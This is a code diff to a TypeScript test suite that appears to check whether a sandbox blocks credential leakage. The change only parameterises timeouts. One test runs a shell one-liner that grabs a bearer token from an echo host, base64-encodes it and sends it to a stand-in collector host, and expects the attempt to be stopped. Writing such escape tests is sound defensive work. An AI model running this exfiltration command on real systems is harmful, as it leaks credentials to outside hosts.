@@ -86,7 +86,7 @@ export const tokenCases: EscapeCase[] = [
     expect: 'stopped',
     async run(w) {
       const a = await w.curl(`--compressed ${w.url('echo.test', '/gzip')}`);
-      const raw = await w.sh(`curl -sS --max-time 15 ${w.url('echo.test', '/gzip')} | (gzip -dc 2>/dev/null || cat)`);
+      const raw = await w.sh(`curl -sS --max-time ${w.secs(15)} ${w.url('echo.test', '/gzip')} | (gzip -dc 2>/dev/null || cat)`);
       return noTokenIn(w, 'the gzip echo', a.body + raw.stdout, a.status === 200 && a.body.includes('"headers"'));
     },
   },
@@ -116,7 +116,7 @@ export const tokenCases: EscapeCase[] = [
     attack: 'read the token back from an echo, then send it, base64-encoded, to another allowed host',
     expect: 'stopped',
     async run(w) {
-      const r = await w.sh(`t=$(curl -sS --max-time 15 ${w.url('echo.test', '/headers')} | grep -io 'bearer [^"]*' | head -1 | cut -d' ' -f2); curl -sS --max-time 15 -o /dev/null -w '%{http_code}' ${w.url('open.test', '/collect')}?d=$(printf %s "$t" | base64 -w0 | tr -d =)`);
+      const r = await w.sh(`t=$(curl -sS --max-time ${w.secs(15)} ${w.url('echo.test', '/headers')} | grep -io 'bearer [^"]*' | head -1 | cut -d' ' -f2); curl -sS --max-time ${w.secs(15)} -o /dev/null -w '%{http_code}' ${w.url('open.test', '/collect')}?d=$(printf %s "$t" | base64 -w0 | tr -d =)`);
       const b64 = Buffer.from(w.echoToken).toString('base64').replace(/=+$/, '');
       // The echo host itself legitimately received the injected token: look only at what reached the collector.
       const sent = w.up.received.filter((x) => x.url.startsWith('/collect')).at(-1);
